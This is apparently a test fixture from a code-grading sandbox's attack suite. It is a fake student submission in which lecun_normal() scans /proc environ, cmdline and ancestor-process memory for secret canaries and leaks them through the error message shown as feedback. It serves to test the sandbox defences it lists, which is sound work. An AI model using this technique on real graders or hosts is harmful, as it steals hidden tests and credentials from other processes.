"""lecun_normal() reads other processes through /proc: environ, cmdline, memory.

Hostile submission (tests/attacks): the reference's initializers.py with lecun_normal()
replaced by the code below (tests/compose.py). A student could hand that file in as it
is; the attack suite fills in the @NAME@ placeholders (paths and ports of the test's own
canaries) before grading it.

It looks for anything named SECRET in every process's environment and
command line, and in the memory of its ancestors (the zygote and the grading
process that holds the hidden tests) and of pid 1, and reports what it found
as its error message, which the feedback shows. Landlock keeps /proc shut;
the worker also runs as an unprivileged user in its own pid namespace, not
dumpable, with ptrace refused; under bubblewrap /proc holds only the
sandbox's own processes.
"""
# ruff: noqa

import os
import re
import time

# Filled in by tests/attacks/conftest.py before grading.
MARKER = "@MARKER@"  # the name this code gives its processes and threads


def _mark() -> None:
    """Name this thread MARKER (prctl PR_SET_NAME), so the attack suite can find it later."""
    import ctypes

    ctypes.CDLL(None).prctl(15, MARKER.encode(), 0, 0, 0)


def _escapes_first(notes: list[str]) -> list[str]:
    """What got out first: the feedback shows only the start of a long message."""
    return sorted(notes, key=lambda note: not note.startswith("escaped"))


def _scan_memory(pid, deadline):
    found = []
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
        for line in maps:
            if time.monotonic() > deadline:
                break
            span, perms = line.split()[:2]
            if not perms.startswith("r"):
                continue
            start, end = (int(part, 16) for part in span.split("-"))
            try:
                mem.seek(start)
                chunk = mem.read(min(end - start, 1 << 24))
            except (OSError, OverflowError, ValueError):
                continue
            found += [m.group().decode() for m in re.finditer(rb"SECRET-[0-9a-f]{16}", chunk)]
    return found


def _ancestors():
    found, pid = [], "self"
    for _ in range(4):
        try:
            with open(f"/proc/{pid}/stat") as handle:
                pid = handle.read().rsplit(")", 1)[1].split()[1]
        except (OSError, IndexError) as exc:
            return found, f"ancestors: {exc}"
        if pid in ("0", "1"):
            break
        found.append(pid)
    return found, f"ancestors {found}"


_FOUND = []  # the first call searches (for a few seconds); later calls repeat its answer


def lecun_normal(fan_in, fan_out, rng):
    _mark()
    if not _FOUND:
        _FOUND.append(_search())
    raise RuntimeError(_FOUND[0])


def _search():
    loot, notes, refused = [], [], 0
    deadline = time.monotonic() + 3.0
    try:
        pids = [p for p in os.listdir("/proc") if p.isdigit()]
    except OSError as exc:
        pids = ["1"]
        notes.append(f"/proc: {exc}")
    for pid in pids:
        for what in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{what}", "rb") as handle:
                    loot += re.findall(r"SECRET-[0-9a-f]{16}", handle.read().decode(errors="replace"))
            except OSError as exc:
                refused += 1
                if pid == "1":
                    notes.append(f"/proc/1/{what}: {exc}")
    ancestors, note = _ancestors()
    notes.append(note)
    for pid in dict.fromkeys([str(os.getppid()), *ancestors, "1"]):  # 0: outside our pid namespace
        try:
            loot += _scan_memory(pid, deadline)
        except OSError as exc:
            notes.append(f"/proc/{pid}/mem: {exc}")
    notes.append(f"{refused} files of /proc refused")
    return f"found {sorted(set(loot))}; " + "; ".join(_escapes_first(notes))[:300]
